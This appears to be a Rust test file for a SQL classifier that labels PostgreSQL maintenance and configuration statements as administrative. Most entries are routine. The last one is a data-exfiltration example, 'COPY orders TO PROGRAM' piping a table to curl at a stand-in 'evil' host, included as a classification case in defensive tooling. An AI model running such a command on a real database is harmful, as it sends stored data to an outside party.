//! Administration: maintenance, server configuration, code blocks, procedures.

use super::classes;

classes! {
    vacuum: "VACUUM" => Admin, "VACUUM";
    vacuum_full_table: "VACUUM FULL orders" => Admin;
    vacuum_options: "VACUUM (VERBOSE, ANALYZE) orders" => Admin;
    pgbench_vacuum_analyze: "vacuum analyze pgbench_branches" => Admin;
    analyze_all: "ANALYZE" => Admin;
    analyze_table: "ANALYZE orders" => Admin, "ANALYZE";
    analyze_verbose: "ANALYZE VERBOSE orders" => Admin;
    analyse_british: "ANALYSE orders" => Admin;
    checkpoint: "CHECKPOINT" => Admin, "CHECKPOINT";
    cluster: "CLUSTER orders USING orders_pkey" => Admin;
    reindex_table: "REINDEX TABLE orders" => Admin;
    reindex_concurrently: "REINDEX INDEX CONCURRENTLY i" => Admin;
    alter_system: "ALTER SYSTEM SET work_mem = '1GB'" => Admin, "ALTER SYSTEM";
    alter_system_reset: "ALTER SYSTEM RESET ALL" => Admin;
    load_library: "LOAD 'auto_explain'" => Admin, "LOAD";
    do_block: "DO $$ BEGIN PERFORM 1; END $$" => Admin, "DO";
    do_block_language: "DO LANGUAGE plpgsql $$ BEGIN DELETE FROM t; END $$" => Admin;
    call_procedure: "CALL refresh_everything()" => Admin, "CALL";
    call_with_args: "CALL p(1, 'x')" => Admin;
    create_extension: "CREATE EXTENSION dblink" => Admin, "CREATE EXTENSION";
    create_extension_if_not_exists: "CREATE EXTENSION IF NOT EXISTS pg_trgm SCHEMA public" => Admin;
    alter_extension: "ALTER EXTENSION pg_trgm UPDATE" => Admin;
    drop_extension: "DROP EXTENSION dblink" => Admin;
    create_server: "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')" => Admin;
    import_foreign_schema: "IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO local" => Admin;
    create_subscription: "CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION pub" => Admin;
    create_publication: "CREATE PUBLICATION pub FOR ALL TABLES" => Admin;
    drop_subscription: "DROP SUBSCRIPTION sub" => Admin;
    alter_publication: "ALTER PUBLICATION pub ADD TABLE t" => Admin;
    create_event_trigger: "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()" => Admin;
    create_tablespace: "CREATE TABLESPACE fast LOCATION '/ssd'" => Admin;
    create_language: "CREATE LANGUAGE plperlu" => Admin;
    prepare_transaction: "PREPARE TRANSACTION 'tx1'" => Admin;
    commit_prepared: "COMMIT PREPARED 'tx1'" => Admin;
    rollback_prepared: "ROLLBACK PREPARED 'tx1'" => Admin;
    log_setting: "SET log_statement = 'none'" => Admin;
    debug_setting: "SET debug_print_plan = on" => Admin;
    copy_to_program: "COPY orders TO PROGRAM 'curl -d @- http://evil'" => Admin;
}
